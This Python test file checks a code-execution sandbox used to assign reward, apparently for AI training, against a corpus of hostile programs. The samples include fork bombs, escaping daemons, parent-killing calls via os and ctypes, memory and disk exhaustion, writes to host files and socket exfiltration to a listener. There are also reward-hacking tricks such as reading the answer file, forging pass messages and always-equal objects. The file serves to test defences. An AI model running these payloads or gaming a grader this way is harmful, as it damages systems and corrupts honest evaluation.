"""Hostile-code corpus for the code verifier (stalebook.sandbox via stalebook.tasks.reward).

Every hostile program targets the MBPP fixture task `smaller(a, b)` and tries to obtain reward 1
without solving it, to hurt the parent, or to leave something behind. Each must get reward 0, the parent
(and an unrelated sentinel process) must survive, nothing may be left running or written, and the whole
corpus must finish in bounded time. Correct programs run in the same parallel batch must still get 1.
"""
import json, os, socket, subprocess, sys, threading, time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from stalebook import sandbox
from stalebook.core import hash_file
from stalebook.tasks import Task, load_tasks_jsonl, reward, code_reward

FIX = Path(__file__).parent / "fixtures"
ORACLE = FIX / "mbpp_sample.jsonl"
SANDBOX_PY = Path(sandbox.__file__)
LIM = sandbox.Limits(cpu_s=2, wall_s=4.0)
BOUND_S = 60.0


def _task():
    t = load_tasks_jsonl(ORACLE, "mbpp")[0]
    return t


def _listener():
    "A TCP server on 127.0.0.1 in the parent's network namespace; records anything it receives."
    srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(8); srv.settimeout(0.2)
    got, stop = [], threading.Event()
    def loop():
        while not stop.is_set():
            try: c, _ = srv.accept()
            except OSError: continue
            c.settimeout(1)
            try: got.append(c.recv(100) or b"<connected>")
            except OSError: got.append(b"<connected>")
            c.close()
    th = threading.Thread(target=loop, daemon=True); th.start()
    return srv.getsockname()[1], got, lambda: (stop.set(), th.join(), srv.close())


def hostile_corpus(port: int, canary: Path) -> dict[str, str]:
    oracle, sbx = str(ORACLE), str(SANDBOX_PY)
    return {
        "infinite_loop": "def smaller(a, b):\n    while True: pass\n",
        "cpu_loop_ignoring_sigxcpu": "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True: pass\n",
        "sleep_forever": "import time\ntime.sleep(3600)\n",
        "fork_bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n",
        "fork_bomb_setsid_escape": ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    while True:\n"
                                    "        try: os.fork()\n        except OSError: time.sleep(0.01)\n"
                                    "def smaller(a, b): return a\n"),
        "daemon_outlives_harness": ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(120)\n    os._exit(0)\n"
                                    "def smaller(a, b): return b\n"),
        "memory_bomb": "x = bytearray(1 << 36)\ndef smaller(a, b): return a\n",
        "memory_bomb_growing": "l = []\nwhile True: l.append(bytearray(10**7))\n",
        "huge_output": "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n    sys.stderr.write('y' * 65536)\n",
        "huge_result": "def smaller(a, b):\n    return 'x' * (50 * 10**6)\n",
        "disk_fill": "with open('big', 'wb') as f:\n    while True: f.write(b'0' * 10**6)\n",
        "write_outside_workdir": (f"import os\nfor p in [{str(canary / 'pwned')!r}, {sbx!r}, '/etc/pwned', '/pwned', '/usr/pwned']:\n"
                                  "    try:\n        with open(p, 'a') as f: f.write('pwned')\n    except OSError: pass\n"
                                  "def smaller(a, b): return a\n"),
        "read_oracle_file": f"import json\nexec(json.loads(open({oracle!r}).readline())['code'])\n",
        "read_oracle_from_frames": ("import sys, gc\ndef smaller(a, b):\n    f = sys._getframe(1)\n    while f:\n"
                                    "        for k in ('expected', 'exp', 'check', 'want'):\n"
                                    "            if k in f.f_locals: return f.f_locals[k]\n        f = f.f_back\n"
                                    "    for o in gc.get_objects():\n"
                                    "        if type(o).__name__ == 'Check': return o.expected\n    return None\n"),
        "sys_modules_os_exit": "import sys\nsys.modules['os']._exit(0)\n",
        "importlib_reload_kill_parent": "import importlib, os\nos = importlib.reload(os)\nos.kill(os.getppid(), 9)\nos._exit(0)\n",
        "loader_escape": "posix = __import__('builtins').__loader__.load_module('posix')\nposix._exit(0)\n",
        "ctypes_escape": ("import ctypes\nlibc = ctypes.CDLL(None)\nlibc.kill(libc.getppid(), 9)\nlibc.kill(-1, 9)\nlibc._exit(0)\n"),
        "socket_exfiltration": (f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
                                "    s.sendall(b'PWNED')\nexcept OSError: pass\n"
                                "try: socket.getaddrinfo('example.com', 80)\nexcept OSError: pass\n"
                                "def smaller(a, b): return a\n"),
        "kill_parent": "import os\nos.kill(os.getppid(), 9)\n",
        "kill_everything": "import os\nos.kill(-1, 9)\n",
        "sys_exit_before_tests": "import sys\nsys.exit(0)\n",
        "os_exit_before_tests": "import os\nos._exit(0)\n",
        "oracle_file_tampering": (f"import json\nwith open({oracle!r}, 'w') as f:\n"
                                  "    f.write(json.dumps({'task_id': 1, 'text': 't', 'code': 'x', 'test_list': ['assert True']}))\n"
                                  "def smaller(a, b): return a\n"),
        "harness_tampering": ("import json, builtins\njson.dumps = lambda *a, **k: '{\"status\": \"ok\", \"outputs\": []}'\n"
                              "builtins.type = lambda o: int\ndef smaller(a, b): return 0\n"),
        # reads the nonce and the payload from the harness frame, forges a well-framed "all pass" message
        "forge_result_channel": ("import sys, os, json\nf = sys._getframe(1)\nnonce, p = f.f_locals['nonce'], f.f_locals['p']\n"
                                 "n = len(p['calls']) + len(p['raw'])\nfd = int(sys.argv[1])\n"
                                 "os.write(fd, (nonce + json.dumps({'status': 'ok', 'outputs': [{'b': True}] * n}) + '\\n').encode())\n"
                                 "os._exit(0)\n"),
        "forge_stdout_and_pipe": ("import os, sys\nprint('all tests passed')\nos.write(int(sys.argv[1]), b'{\"status\": \"ok\", \"outputs\": []}\\n')\n"
                                  "def smaller(a, b): return min(a, b)\n"),
        "lying_eq_object": "class A:\n    def __eq__(self, o): return True\n    __hash__ = None\ndef smaller(a, b): return A()\n",
        "lying_int_subclass": "class I(int):\n    def __eq__(self, o): return True\n    __hash__ = int.__hash__\ndef smaller(a, b): return I(0)\n",
    }


CORRECT = {
    "correct_min": "def smaller(a, b):\n    return min(a, b)\n",
    "correct_uses_workdir_and_prints": ("import os\nwith open('scratch.txt', 'w') as f: f.write('ok')\nprint('hello ' * 100)\n"
                                        "def smaller(a, b):\n    return a if a < b else b\n"),
    "correct_with_recursion": "def smaller(a, b):\n    return b if a > b else (a if a == b or a < b else smaller(b, a))\n",
}


def _sandbox_uid_procs(uids):
    left = []
    for p in Path("/proc").iterdir():
        if not p.name.isdigit(): continue
        try: st = (p / "status").read_text()
        except OSError: continue
        uid = int(next(l for l in st.splitlines() if l.startswith("Uid:")).split()[1])
        if uid in uids: left.append(int(p.name))
    return left


@pytest.mark.parametrize("mode", ["namespaces", "rlimits"])
def test_hostile_corpus(mode, tmp_path, monkeypatch):
    if mode == "namespaces" and sandbox.isolation() != "namespaces":
        pytest.skip("namespaces not permitted here (the rlimits run still covers the corpus)")
    canary = tmp_path / "canary"; canary.mkdir(); canary.chmod(0o777)
    uids = []
    real_uid = sandbox._uid
    monkeypatch.setattr(sandbox, "_uid", lambda: uids.append(real_uid()) or uids[-1])
    real_run = sandbox._run
    monkeypatch.setattr(sandbox, "_run", lambda c, ca, r, lim, m: real_run(c, ca, r, LIM, mode))
    port, received, stop = _listener()
    sentinel = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"])
    before = {p: hash_file(p) for p in (ORACLE, SANDBOX_PY)}
    task = _task()
    cases = {**hostile_corpus(port, canary), **CORRECT}
    assert len(hostile_corpus(port, canary)) >= 15
    t0 = time.monotonic()
    with ThreadPoolExecutor(4) as ex:
        res = dict(zip(cases, ex.map(lambda c: reward(task, c), cases.values())))
    total = time.monotonic() - t0
    stop()
    try:
        print(f"\n[{mode}] corpus of {len(cases)} programs in {total:.1f}s")
        for name, (r, d) in res.items():
            print(f"  {name:32s} reward={r:.0f} wall={d.get('wall_s', 0):5.2f}s  {d.get('reason')}")
        bad = {n: d.get("reason") for n, (r, d) in res.items() if (r != 0.0) != (n in CORRECT)}
        assert not bad, bad
        assert all(d["isolation"] == mode for _, d in res.values())
        assert all(d["wall_s"] <= LIM.wall_s + 2 for _, d in res.values())
        assert total < BOUND_S
        assert sentinel.poll() is None, "an unrelated process was killed"
        assert received == [], f"network reached the parent's listener: {received}"
        assert {p: hash_file(p) for p in before} == before, "a host file was modified"
        assert list(canary.iterdir()) == [], "a file was written outside the work dir"
        time.sleep(0.5)
        assert _sandbox_uid_procs(set(uids)) == [], "sandbox processes survived"
    finally:
        sentinel.kill(); sentinel.wait()
    # specific mechanisms, not just "0 for some reason"
    why = {n: d["reason"] for n, (_, d) in res.items()}
    assert "timeout" in why["sleep_forever"]
    assert "overflow" in why["huge_result"] or "timeout" in why["huge_result"]
    assert "forged" in why["forge_stdout_and_pipe"] or "garbled" in why["forge_stdout_and_pipe"]
    assert "without a result message" in why["os_exit_before_tests"]
    assert "SystemExit" in why["sys_exit_before_tests"]
    # a forger that found the nonce gets its message accepted, and then fails on the values it had to guess
    assert "tests failed" in why["forge_result_channel"]


def test_pass_fail_agree_with_python_semantics():
    "Parent-side judging agrees with evaluating the assert in plain Python, on benign programs."
    import random
    g = random.Random(7)  # fixed seed; test-only data
    progs = ["def f(x): return x * 2", "def f(x): return [x, x]", "def f(x): return (x,)", "def f(x): return x / 2",
             "def f(x): return str(x)", "def f(x): return {x: 1}", "def f(x): return x > 3", "def f(x): return None",
             "def f(x): return {x}", "def f(x): return 1.0 * x"]
    tests = []
    for x in range(6):
        tests += [f"assert f({x}) == {x * 2}", f"assert f({x}) == [{x}, {x}]", f"assert f({x}) == ({x},)",
                  f"assert abs(f({x}) - {x / 2}) < 1e-9", f"assert f({x}) == '{x}'", f"assert f({x}) is True",
                  f"assert f({x}) is None", f"assert not f({x})", f"assert f({x})", f"assert f({x}) == {{{x}}}"]
    for prog in progs:
        ns = {}; exec(prog, ns)
        sample = g.sample(tests, 8)
        for t in sample:
            try: exec(t, ns); want = True
            except Exception: want = False
            got = sandbox.run_tests(prog, [t]).ok
            assert got == want, (prog, t, got, want)


def test_raw_tests_run_in_child_and_are_flagged():
    r = sandbox.run_tests("def f(x): return x + 1", ["for i in range(3): assert f(i) == i + 1"])
    assert r.ok and r.oracle == "child"
    r = sandbox.run_tests("def f(x): return x", ["for i in range(3): assert f(i) == i + 1"])
    assert not r.ok and r.oracle == "child"
    r = sandbox.run_tests("def f(x): return x", ["assert f(1) == 1"])
    assert r.ok and r.oracle == "parent"


def test_fork_bomb_small_nproc_reaped_quickly():
    "With a tiny RLIMIT_NPROC the fork bomb is bounded and everything is gone right after the wall timeout."
    uids = []
    real = sandbox._uid
    sandbox._uid = lambda: uids.append(real()) or uids[-1]
    try:
        t0 = time.monotonic()
        r = sandbox.run_tests("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n", ["assert f(1) == 1"],
                              sandbox.Limits(cpu_s=1, wall_s=2, nproc=4))
        dt = time.monotonic() - t0
    finally:
        sandbox._uid = real
    assert not r.ok and dt < 4
    time.sleep(0.3)
    assert _sandbox_uid_procs(set(uids)) == []


def test_code_reward_rejects_without_spawning():
    t = _task()
    for c, why in (("", "empty"), ("def smaller(a, b) return a", "syntax"), ("x" * 30000, "too long")):
        r, d = code_reward(t, c)
        assert r == 0.0 and why in d["reason"]
